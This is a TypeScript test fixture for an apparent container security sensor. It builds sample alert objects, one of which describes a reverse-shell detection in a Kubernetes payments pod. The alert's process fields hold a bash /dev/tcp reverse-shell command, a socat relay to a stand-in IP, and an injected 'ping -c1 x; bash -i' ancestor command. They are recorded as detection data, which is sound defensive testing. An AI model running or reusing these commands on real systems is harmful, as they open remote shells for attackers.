/** A whole alert, as the engine raises it. */
import { ulid } from 'ulid'
import type { Alert } from '../../sensor/alert.ts'

export function sampleAlert(changes: Partial<Alert> = {}): Alert {
  return {
    schema: 'nightjar.dev/alert/v1',
    id: ulid(),
    time: '2026-03-01T12:34:56.789Z',
    rule: {
      id: 'reverse-shell',
      name: 'Reverse shell',
      pack: 'execution',
      tags: { mitre: ['T1059.004', 'T1071'], owasp_nhi: ['NHI5'] },
    },
    severity: 'critical',
    priority: 95,
    message: 'bash takes its commands from 203.0.113.9:4444',
    runbook: 'https://runbooks.example/reverse-shell',
    event: { type: 'exec' },
    process: {
      pid: 4711,
      ppid: 4700,
      start_time: '2026-03-01T12:34:56.700Z',
      name: 'bash',
      executable: { path: '/usr/bin/bash', name: 'bash' },
      command_args: ['bash', '-c', "echo 'it works'; exec 3<>/dev/tcp/203.0.113.9/4444"],
      command_line: "bash -c echo 'it works'; exec 3<>/dev/tcp/203.0.113.9/4444",
      working_directory: '/var/www',
      user: { id: 33, name: 'www-data' },
      stdin: { type: 'socket', peer: { ip: '203.0.113.9', port: 4444 }, direction: 'outbound' },
      stdout: { type: 'socket', peer: { ip: '203.0.113.9', port: 4444 }, direction: 'outbound' },
      stderr: {
        type: 'pipe',
        inode: '0:14/991',
        relay: { pid: 4712, name: 'socat', command_line: 'socat - TCP:203.0.113.9:4444' },
      },
      reads_commands_from: 'stdin',
      ancestors: [
        { pid: 4700, ppid: 4600, name: 'sh', command_args: ['sh', '-c', 'ping -c1 x; bash -i'] },
        { pid: 4600, ppid: 4500, name: 'php-fpm', command_line: 'php-fpm: pool www' },
        { pid: 4500, ppid: 1, executable: { path: '/usr/bin/containerd-shim', name: 'containerd-shim' } },
      ],
    },
    destination: { ip: '2001:db8::9', port: 4444 },
    source: { ip: '2001:db8::1', port: 40112 },
    network: { transport: 'tcp', type: 'ipv6' },
    gap: { reason: 'probe_exited', seconds: 4.2, lost_events: 12, detail: 'signal SIGKILL' },
    container: {
      id: '3f2a9c81b7d04e6f3f2a9c81b7d04e6f3f2a9c81b7d04e6f3f2a9c81b7d04e6f',
      name: 'app',
      runtime: 'containerd',
      image: { name: 'registry.example/shop/checkout:1.4.2' },
    },
    k8s: {
      namespace: { name: 'payments' },
      pod: { name: 'checkout-7d9f-x2x', uid: '0d6e7f5c-8f0e-4d55-8d5c-1f0b7a1d0c11', label: { app: 'checkout' } },
      container: { name: 'app' },
      node: { name: 'node-1' },
      cluster: { name: 'prod-eu' },
      owner: { kind: 'Deployment', name: 'checkout' },
    },
    host: { name: 'node-1', kernel: '6.18.0' },
    identity: {
      subject: 'system:serviceaccount:payments:checkout',
      kind: 'service_account',
      service_account: { namespace: 'payments', name: 'checkout' },
      freshness: 'stale',
    },
    count: 3,
    first_seen: '2026-03-01T12:34:50.000Z',
    last_seen: '2026-03-01T12:34:56.789Z',
    sensor: { version: '0.1.0', node: 'node-1', lost_events: 7 },
    ...changes,
  }
}

/** What little is known of a process on a plain host. */
export function bareAlert(changes: Partial<Alert> = {}): Alert {
  return {
    schema: 'nightjar.dev/alert/v1',
    id: ulid(),
    time: '2026-03-01T12:34:56.789Z',
    rule: { id: 'sensor-gap', name: 'The sensor was blind', pack: 'sensor', tags: {} },
    severity: 'medium',
    priority: 50,
    message: 'the probe ended',
    event: { type: 'gap' },
    count: 1,
    first_seen: '2026-03-01T12:34:56.789Z',
    last_seen: '2026-03-01T12:34:56.789Z',
    sensor: { version: '0.1.0', node: 'node-1', lost_events: 0 },
    ...changes,
  }
}
